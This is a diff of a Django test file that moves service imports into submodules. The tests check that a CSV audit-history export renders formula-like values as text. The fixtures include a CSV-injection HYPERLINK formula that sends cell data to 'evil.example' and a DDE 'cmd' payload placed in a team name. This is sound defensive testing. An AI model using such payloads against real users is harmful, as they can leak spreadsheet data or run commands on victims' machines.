@@ -16,8 +16,9 @@ from django.db import close_old_connections
 from tests.factories import TeamFactory, UploadFactory, UploadRowFactory
 from tests.helpers import login_url, make_user
 from tests.views.test_history import sales_and_finance_history
-from uploads import services
 from uploads.models import AuditEvent, Upload
+from uploads.services.audit import audit
+from uploads.services.review import upload_resolve
 
 HEADER = [
     "time",
@@ -104,7 +105,7 @@ def test_a_member_cannot_export_another_teams_events(client, history, alice):
 
 def test_a_formula_in_a_note_comes_out_as_text(client, team, operator, failed):
     note = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
-    services.upload_resolve(
+    upload_resolve(
         upload=failed,
         user=operator,
         note=note,
@@ -122,7 +123,7 @@ def test_a_formula_in_a_note_comes_out_as_text(client, team, operator, failed):
 def test_a_team_or_person_named_like_a_formula_is_quoted(client, operator):
     team = TeamFactory(slug="sneaky", name="=cmd|' /C calc'!A0")
     person = make_user("@sneaky", team, "uploader")
-    services.audit(
+    audit(
         action=AuditEvent.Action.UPLOAD_CONFIRMED,
         upload=UploadFactory(team=team),
         actor=person,
@@ -139,9 +140,7 @@ def test_the_export_names_people_and_uploads_as_they_were(
     sales, _ = history
     alice.username = "alice.w"
     alice.save()
-    services.audit(
-        action=AuditEvent.Action.UPLOAD_ARCHIVED, team=sales.team, upload_number=41
-    )
+    audit(action=AuditEvent.Action.UPLOAD_ARCHIVED, team=sales.team, upload_number=41)
     client.force_login(operator)
 
     rows = read_csv(client.get("/history/export.csv?team=sales"))
@@ -157,7 +156,7 @@ def test_the_export_names_people_and_uploads_as_they_were(
 def test_the_export_says_the_kind_and_the_items_comment(client, team, alice):
     upload = UploadFactory(team=team, created_by=alice, kind=Upload.Kind.METRIC)
     UploadRowFactory(upload=upload, external_id="SALES-Q4-01", comment="=1+1 up")
-    services.audit(action=AuditEvent.Action.UPLOAD_CONFIRMED, upload=upload)
+    audit(action=AuditEvent.Action.UPLOAD_CONFIRMED, upload=upload)
     client.force_login(alice)
 
     (row,) = read_csv(client.get("/history/export.csv?external_id=SALES-Q4-01"))
